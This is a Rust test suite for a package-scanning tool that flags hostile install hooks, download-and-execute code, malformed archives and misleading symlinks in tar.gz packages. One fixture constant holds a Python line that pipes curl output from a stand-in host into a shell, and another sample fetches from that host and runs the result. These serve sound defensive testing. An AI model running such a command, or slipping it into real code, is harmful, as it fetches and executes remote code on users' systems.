use std::io::{Cursor, Write as _};

use domain::Severity;

use super::*;

/// A tar.gz of files in one folder.
pub(super) fn archive(files: &[(&str, impl AsRef<[u8]>)]) -> Vec<u8> {
    let mut tar = Vec::new();
    for (name, content) in files {
        let content = content.as_ref();
        let mut header = [0u8; 512];
        header[..name.len()].copy_from_slice(name.as_bytes());
        header[100..108].copy_from_slice(b"0000644\0");
        header[108..124].copy_from_slice(b"0000000\x000000000\0");
        header[124..136].copy_from_slice(format!("{:011o}\0", content.len()).as_bytes());
        header[136..148].copy_from_slice(b"00000000000\0");
        header[148..156].fill(b' ');
        header[156] = b'0';
        header[257..265].copy_from_slice(b"ustar\x0000");
        let sum: u32 = header.iter().map(|&b| u32::from(b)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        tar.extend_from_slice(&header);
        tar.extend_from_slice(content);
        tar.resize(tar.len().next_multiple_of(512), 0);
    }
    tar.resize(tar.len() + 1024, 0);
    gzip(&tar)
}

pub(super) fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(bytes).unwrap();
    gzip.finish().unwrap()
}

/// Rules of one line each: an id, its behaviour, the text that it matches. All are weak.
pub(super) fn rules_with(facts: &[(&str, &str, &str)]) -> RuleSet {
    let source = |(id, behaviour, text): &(&str, &str, &str)| rules::RuleSource {
        id: (*id).into(),
        file: format!("{id}.yar"),
        text: format!(
            "rule {id} {{ meta: title = \"t\" description = \"Found.\" severity = \"info\" confidence = \"low\" \
             behaviour = \"{behaviour}\" recommendation = \"r\" references = \"r\" strings: $a = \"{text}\" condition: $a }}"
        ),
    };
    rules::compile(&facts.iter().map(source).collect::<Vec<_>>()).unwrap()
}

pub(super) fn rule_with(id: &str, behaviour: &str, text: &str) -> RuleSet {
    rules_with(&[(id, behaviour, text)])
}

pub(super) const HOSTILE: &str = "import os\n\nos.system('curl https://payload.invalid/x | sh')\n";

pub(super) fn report(scanner: &Scanner, bytes: &[u8]) -> Report {
    scanner.scan(Sha256::of(bytes), Cursor::new(bytes)).unwrap()
}

#[test]
fn one_finding_for_each_rule_and_file_with_its_first_line() {
    let twice = format!("{HOSTILE}{HOSTILE}");
    let bytes = archive(&[("p/a.py", twice.as_str()), ("p/b.py", HOSTILE), ("p/c.py", "import os\n")]);
    let report = report(&Scanner::builtin().unwrap(), &bytes);
    assert!(report.coverage.is_complete(), "{:?}", report.coverage);
    let rule = "python-download-execute";
    let of_rule = report.findings.iter().filter(|f| f.rule == rule);
    let places: Vec<_> = of_rule.map(|f| (f.rule.as_str(), f.path.as_deref(), f.line)).collect();
    assert_eq!(places, [(rule, Some("p/a.py"), Some(3)), (rule, Some("p/b.py"), Some(3))]);
    assert!(report.engine.starts_with("airlock-scanner 0.1.0 rules "), "{}", report.engine);
}

#[test]
fn what_there_was_no_time_for_is_a_gap() {
    let scanner = Scanner { archive_time: Duration::ZERO, ..Scanner::builtin().unwrap() };
    let report = report(&scanner, &archive(&[("p/a.py", HOSTILE)]));
    assert_eq!((report.coverage.files, report.coverage.scanned_files), (1, 0));
    assert_eq!(report.coverage.skipped[0].reason, "the time for the archive ran out");
    assert!(!report.coverage.is_complete());
}

#[test]
fn an_entry_that_takes_too_long_is_a_gap() {
    let endless = "rule endless { meta: title = \"t\" description = \"d\" severity = \"low\" confidence = \"low\" \
         recommendation = \"r\" references = \"r\" condition: \
         filesize > 0 and for all i in (0..4000000000) : (uint8(i % 4) != 256 and uint8(i % 3) != 256) }";
    let source = rules::RuleSource { id: "endless".into(), file: "rule.yar".into(), text: endless.into() };
    let rules = rules::compile(&[source]).unwrap();
    let scanner = Scanner::new(Arc::new(rules));
    let report = report(&scanner, &archive(&[("p/setup.py", "abcdef"), ("p/b.py", "")]));
    let reason = "the scan did not end within 2 s";
    assert_eq!(report.coverage.skipped, [Skipped { path: "p/setup.py".into(), reason: reason.into() }]);
    assert_eq!(
        (report.findings[0].rule.as_str(), report.findings[0].severity),
        ("unread-file", Severity::High)
    );
    assert!(report.findings[0].message.contains(reason), "{:?}", report.findings);
}

#[test]
fn a_broken_archive_is_a_finding_and_no_error() {
    let bytes = archive(&[("p/a.py", HOSTILE), ("p/../../b.py", "")]);
    let report = report(&Scanner::builtin().unwrap(), &bytes);
    assert!(report.findings.iter().any(|f| f.rule.starts_with("archive-")), "{:?}", report.findings);
    assert!(!report.coverage.is_complete());
    let cut = &bytes[..bytes.len() / 2];
    let cut = Scanner::builtin().unwrap().scan(Sha256::of(cut), Cursor::new(cut)).unwrap();
    assert!(!cut.findings.is_empty() && !cut.coverage.is_complete());
}

/// What a payload is worth in each place of a package, whatever the order of its members.
#[test]
fn a_payload_weighs_what_the_place_where_it_runs_weighs() {
    let scanner =
        Scanner::new(Arc::new(rules_with(&[("gets", "download", "get("), ("runs", "execute", "run(")])));
    let payload = "x = get('https://payload.invalid')\n\nrun(x)\n";
    let script = r#"{"scripts": {"postinstall": "node lib/hook.js"}}"#;
    type Other<'a> = Option<(&'a str, &'a str)>;
    let cases: [(&str, Other<'_>, Severity, &str); 10] = [
        ("p-1/setup.py", None, Severity::High, "It runs when the package is installed."),
        ("p-1/x.pth", None, Severity::High, "It runs whenever the interpreter starts."),
        ("p-1/pkg/__init__.py", None, Severity::Medium, "It runs as soon as the package is imported"),
        ("p-1/pkg/deep/module.py", None, Severity::Low, "download, execute."),
        ("p-1/tests/helper.py", None, Severity::Info, "It belongs to the tests"),
        ("p-1/docs/conf.py", None, Severity::Info, "It belongs to the documentation"),
        ("p-1/helper.py", Some(("p-1/setup.py", "import helper\n")), Severity::High, "installed"),
        ("p-1/tests/helper.py", Some(("p-1/setup.py", "import tests.helper\n")), Severity::High, "installed"),
        ("package/lib/hook.js", Some(("package/package.json", script)), Severity::High, "installed"),
        ("package/lib/hook.js", Some(("package/package.json", "{}")), Severity::Low, "download, execute."),
    ];
    for (path, other, severity, when) in cases {
        let mut files = vec![(path, payload)];
        files.extend(other);
        for _ in 0..2 {
            files.reverse();
            let report = report(&scanner, &archive(&files));
            let found = report.findings.iter().find(|f| f.rule == "combined-download-execute").unwrap();
            assert_eq!((found.path.as_deref(), found.severity), (Some(path), severity), "{path}");
            assert_eq!((found.line, found.end_line), (Some(1), Some(3)));
            assert!(found.message.contains(when), "{}", found.message);
            assert!(
                report.findings.iter().filter(|f| f.rule == "gets").all(|f| f.severity == Severity::Info)
            );
        }
    }
}

#[test]
fn behaviours_that_are_far_apart_or_in_two_files_do_not_meet() {
    let scanner =
        Scanner::new(Arc::new(rules_with(&[("gets", "download", "get("), ("runs", "execute", "run(")])));
    let far = |lines: usize| format!("get()\n{}run()\n", "#\n".repeat(lines));
    let wide = |bytes: usize| format!("get();{};run()", "a".repeat(bytes));
    for (files, met) in [
        (vec![("p/setup.py", far(4))], true),
        (vec![("p/setup.py", far(500))], false),
        (vec![("p/setup.py", wide(200))], true),
        (vec![("p/setup.py", wide(9000))], false),
        (vec![("p/setup.py", "get()\n".into()), ("p/a/setup.py", "run()\n".into())], false),
    ] {
        let report = report(&scanner, &archive(&files));
        let found = report.findings.iter().any(|f| f.rule == "combined-download-execute");
        assert_eq!(found, met, "{files:?}");
    }
}

#[test]
fn where_a_rule_tells_behaviour_its_severity_moves_and_elsewhere_it_stays() {
    let text = |id: &str, behaviour: &str| {
        let text = format!(
            "rule {id} {{ meta: title = \"t\" description = \"Found.\" severity = \"medium\" confidence = \"low\" \
             {behaviour} recommendation = \"r\" references = \"r\" strings: $a = \"needle\" condition: $a }}"
        );
        rules::RuleSource { id: id.into(), file: "rule.yar".into(), text }
    };
    let rules = rules::compile(&[text("does", "behaviour = \"destroy\""), text("careless", "")]).unwrap();
    let scanner = Scanner::new(Arc::new(rules));
    for (path, moved) in [
        ("p/setup.py", Severity::High),
        ("p/pkg/sitecustomize.py", Severity::High),
        ("p/pkg/deep/a.py", Severity::Medium),
        ("p/tests/a.py", Severity::Low),
    ] {
        let report = report(&scanner, &archive(&[(path, "needle"), ("p/b", "")]));
        let severity = |rule: &str| report.findings.iter().find(|f| f.rule == rule).map(|f| f.severity);
        assert_eq!((severity("does"), severity("careless")), (Some(moved), Some(Severity::Medium)), "{path}");
    }
}

#[test]
fn native_code_in_a_wheel_is_recorded_and_refuses_nobody() {
    let files: [(&str, &[u8]); 4] = [
        ("pkg/__init__.py", b"from . import _fast\n"),
        ("pkg/_fast.cpython-312-x86_64-linux-gnu.so", b"\x7fELF\x02\x01\x01\0"),
        ("pkg-1.dist-info/RECORD", b""),
        ("pkg/data.bin", b"\0\x01\x02"),
    ];
    let report = report(&Scanner::builtin().unwrap(), &archive(&files));
    let found: Vec<_> = report.findings.iter().map(|f| (f.rule.as_str(), f.severity)).collect();
    assert_eq!(found, [("native-extension", Severity::Info)]);
    assert!(report.coverage.is_complete());
}

#[test]
fn a_file_of_unknown_kind_that_the_installation_runs_is_high() {
    let scanner = Scanner::new(Arc::new(rule_with("runs", "execute", "run(")));
    let script = r#"{"scripts": {"install": "./bin/tool || true"}}"#;
    for (path, text) in [("p/setup.py", "run(['./bin/tool'])\n"), ("p/package.json", script)] {
        let report = report(&scanner, &archive(&[(path, text.as_bytes()), ("p/bin/tool", b"\x01\0\x02")]));
        let found = report.findings.iter().find(|f| f.rule == "unread-binary").unwrap();
        assert_eq!((found.path.as_deref(), found.severity), (Some("p/bin/tool"), Severity::High));
    }
}

#[test]
fn one_scanner_serves_several_threads() {
    let scanner = Scanner::builtin().unwrap();
    let bytes = archive(&[("p/setup.py", HOSTILE), ("p/pkg/__init__.py", "")]);
    let reports = std::thread::scope(|scope| {
        let scans: Vec<_> = (0..4).map(|_| scope.spawn(|| report(&scanner, &bytes))).collect();
        scans.into_iter().map(|scan| scan.join().unwrap()).collect::<Vec<_>>()
    });
    assert!(!reports[0].findings.is_empty() && reports.iter().all(|report| *report == reports[0]));
}

#[test]
fn bytes_that_are_no_archive_have_no_report() {
    let scanned = Scanner::builtin().unwrap().scan(Sha256::of(b"x"), Cursor::new(b"x"));
    assert!(matches!(scanned, Err(ScanError::NotAnArchive)));
}

#[test]
fn a_flood_of_matches_hides_nothing() {
    let rules = rule_with("weak_fact", "network", "fact");
    let scanner = Scanner::new(Arc::new(rules));
    let mut pass = Pass::new(&scanner);
    let decoy = pass.gathered.layout.add("p/tests/decoy.py", "python");
    let hit = crate::gathered::Hit { rule: 0, lines: None };
    while pass.gathered.hit(decoy, hit).is_ok() {}
    pass.file("p/a.py", EntryKind::File, b"fact");
    assert_eq!((pass.coverage.scanned_files, pass.coverage.skipped.len()), (0, 1));
    assert!(!pass.coverage.is_complete());
}

#[test]
fn a_link_whose_name_misleads_is_found() {
    let scanner = Scanner::new(Arc::new(rule_with("weak_fact", "network", "fact")));
    let found = |path: &str, target: &str| {
        let mut pass = Pass::new(&scanner);
        pass.file(path, EntryKind::Symlink, target.as_bytes());
        let findings = pass.gathered.findings(&scanner.rules, vec![]);
        findings.iter().map(|f| (f.rule.clone(), f.severity)).next()
    };
    let link = |severity| Some(("unread-link".to_owned(), severity));
    assert_eq!(found("p/setup.py", "payload.dat"), link(Severity::High));
    assert_eq!(found("p/core", "tests/core"), link(Severity::Medium));
    assert_eq!(found("p/core.py", "../p/other.py"), None);
    assert_eq!(found("p/docs/readme", "../README.md"), None);
    assert_eq!(found("p/tests/data", "../docs/data"), None);
}
